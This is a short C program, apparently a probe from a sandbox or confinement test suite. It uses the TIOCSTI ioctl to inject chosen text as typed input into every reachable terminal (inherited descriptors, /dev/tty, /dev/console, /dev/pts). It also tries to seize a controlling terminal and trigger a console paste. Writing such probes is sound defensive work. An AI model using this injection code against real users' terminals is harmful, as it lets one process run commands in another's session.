/*
 * tiocsti TEXT: pushes text into every terminal that it can reach as if somebody had typed it
 * there, and takes a terminal for its own first where it may.
 */
#include "attack.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void push(const char *name, int fd, const char *text, int take)
{
	char paste[2] = {3 /* TIOCL_PASTESEL */, 0};
	long n = 0;

	if (fd < 0) {
		no(name);
		return;
	}
	if (take)
		ioctl(fd, TIOCSCTTY, 1);
	for (const char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) == 0)
			n++;
	if (n)
		got(name, "%ld bytes pushed", n);
	else
		no(name);
	if (take)
		ioctl(fd, TIOCLINUX, paste);
}

int main(int argc, char **argv)
{
	const char *text = argc > 1 ? argv[1] : "x";
	int own = argc > 2;
	char path[32];

	for (int fd = 0; fd < (own ? 3 : 16); fd++) {
		snprintf(path, sizeof(path), "fd-%d", fd);
		push(path, isatty(fd) ? fd : -1, text, !own);
	}
	if (own)
		return 0;
	push("tty", open("/dev/tty", O_RDWR | O_NOCTTY), text, 1);
	push("console", open("/dev/console", O_RDWR | O_NOCTTY), text, 1);
	for (int i = 0; i < 8; i++) {
		snprintf(path, sizeof(path), "/dev/pts/%d", i);
		push(path, open(path, O_RDWR | O_NOCTTY), text, 1);
	}
	return 0;
}
